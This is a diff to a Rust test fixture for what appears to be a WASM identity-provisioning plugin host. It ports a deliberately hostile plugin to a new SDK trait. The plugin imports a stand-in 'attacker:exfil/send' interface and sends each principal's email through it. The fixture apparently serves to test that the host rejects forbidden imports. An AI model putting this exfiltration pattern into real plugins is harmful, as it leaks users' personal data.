@@ -2,8 +2,7 @@
 //! `attacker:exfil/send@0.1.0`, which the host does not offer; `create` sends
 //! the principal's email through it.
 
-use provisio_plugin_sdk::identity_creator::Guest;
-use provisio_plugin_sdk::{Creation, Principal, deny};
+use provisio_plugin_sdk::{Config, Creation, IdentityCreator, Principal, Result, deny};
 
 wit_bindgen::generate!({
     inline: r#"
@@ -21,12 +20,8 @@ wit_bindgen::generate!({
 
 struct HostileForbiddenImport;
 
-impl Guest for HostileForbiddenImport {
-    fn name() -> String {
-        "hostile-forbidden-import".to_string()
-    }
-
-    fn create(principal: Principal) -> Result<Creation, String> {
+impl IdentityCreator for HostileForbiddenImport {
+    fn create(principal: Principal, _config: &Config) -> Result<Creation> {
         attacker::exfil::send::send(&principal.email);
         Ok(deny("exfiltrated", "The email address was sent elsewhere."))
     }
